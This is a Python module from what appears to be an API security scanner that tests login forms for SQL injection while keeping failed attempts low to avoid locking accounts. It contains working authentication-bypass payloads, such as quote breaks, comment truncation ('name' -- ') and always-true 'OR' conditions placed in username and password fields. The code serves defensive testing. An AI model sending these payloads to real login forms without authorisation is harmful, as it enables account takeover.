"""Tries a log-in for SQL with as few wrong log-ins as possible, so that no account gets locked."""

from apiward.classify.leaks import speaks_of_database
from apiward.core.api import Operation
from apiward.core.exchange import Exchange
from apiward.scan.identities.log_in import LogInForm, log_in, usernames
from apiward.scan.proofs.sql_trial import Proof
from apiward.scan.scene import Scene


async def judge(scene: Scene, operation: Operation) -> Proof | None:
    """Return a proof that name or password become part of a database command, or None."""
    form = next((one for one in scene.accounts.log_in_forms if one.operation == operation), None)
    if form is None:
        return None
    owner = scene.owner
    name = owner.account.username or usernames(form, owner.persona)[0] if owner else "nobody@example.com"
    right = owner.password if owner else "Wrong-0pen!x"
    return await _by_quotes(scene, form, name, right) or await _by_condition(scene, form, name)


async def _by_quotes(scene: Scene, form: LogInForm, name: str, right: str) -> Proof | None:
    """One quote breaks, two do not. With the right password between, a counter of failures starts anew."""
    single, _ = await _tried(scene, form, name + "'", right)
    double, _ = await _tried(scene, form, name + "''", right)
    if not _is_broken(single) or _is_broken(double) or double.status in (0, 429):
        return None
    again, _ = await _tried(scene, form, name + "x'''", right)
    whole, _ = await _tried(scene, form, name + "x''''", right)
    if _is_broken(again) and not _is_broken(whole) and whole.status not in (0, 429):
        return Proof("a single quote in the log-in name breaks a command, two do not", single, double, (again, whole))
    return None


async def _by_condition(scene: Scene, form: LogInForm, name: str) -> Proof | None:
    """Open our own account without its password, or any account by a condition that is always true."""
    number = scene.rng.randrange(11, 9_000)
    wrong = f"Wr0ng-{scene.rng.randrange(10**6)}"
    ways = (
        (f"{name}' -- ", wrong, f"{name} -- '", wrong),
        (f"{name}' OR '{number}'='{number}", wrong, f"{name}' OR '{number}'='{number + 1}", wrong),
        (name, f"{wrong}' OR '{number}'='{number}", name, f"{wrong}' OR '{number}'='{number + 1}"),
    )
    for text, password, harmless, other in ways:
        attack, tokens = await _tried(scene, form, text, password)
        if attack.status == 429:
            return None
        if tokens:
            control, given = await _tried(scene, form, harmless, other)
            again, tokens = await _tried(scene, form, text, password)
            if not given and tokens and control.status not in (0, 429):
                return Proof(
                    "a condition that is always true opened an account without its password", attack, control, (again,)
                )
    return None


async def _tried(scene: Scene, form: LogInForm, name: str, password: str) -> tuple[Exchange, list[str]]:
    exchange, tokens, cookies = await log_in(scene.caller, form, name, password)
    return exchange, [*tokens, *(value for _, value in cookies)]


def _is_broken(exchange: Exchange) -> bool:
    if exchange.status in (0, 429, 503):
        return False
    return exchange.status >= 500 or speaks_of_database(exchange.text)
